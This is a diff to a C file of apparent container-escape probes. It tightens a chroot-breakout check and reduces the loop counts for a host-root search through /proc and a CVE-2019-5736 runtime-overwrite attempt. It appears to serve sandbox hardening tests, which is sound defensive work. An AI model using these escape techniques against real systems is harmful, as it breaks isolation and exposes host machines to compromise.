@@ -1,5 +1,6 @@
 /* Attacks by way of the file system: mounts, devices, the kernel's files in /proc and /sys. */
 #include "hostile.h"
+#include <dirent.h>
 
 #define CALL(...) (syscall(__VA_ARGS__) < 0 ? -1 : 0)
 
@@ -53,7 +54,11 @@ static int chroot_out(void) { /* the classic way out of a chroot: does it lead a
     errno = EXDEV; /* it came back to where it was */
     return -1;
   }
-  return 0;
+  DIR *there = opendir("/");
+  for (struct dirent *entry; there && (entry = readdir(there));)
+    if (entry->d_name[0] != '.') return 0;
+  errno = ENOENT; /* it came to a place where nothing is */
+  return -1;
 }
 static int device(const char *path, int kind, int number) { /* one that can be made and not opened is of no use */
   unlink(path);
@@ -85,7 +90,7 @@ static int cgroup_leave(void) {
 static int host_root(void) { /* does anything of the host's tree show through /proc? */
   struct stat there;
   char path[64];
-  for (int pid = 1; pid < 65536; pid++) {
+  for (int pid = 1; pid < 4096; pid++) {
     snprintf(path, sizeof path, "/proc/%d/root/var/lib/dpkg/info/crun.list", pid);
     if (stat(path, &there) == 0) return 0;
   }
@@ -94,7 +99,7 @@ static int host_root(void) { /* does anything of the host's tree show through /p
 }
 static int write_runtime(void) { /* the file of whoever entered the machine (CVE-2019-5736) */
   char path[64];
-  for (int round = 0; round < 200; round++)
+  for (int round = 0; round < 20; round++)
     for (int pid = 1; pid < 64; pid++) {
       char target[256] = "";
       snprintf(path, sizeof path, "/proc/%d/exe", pid);
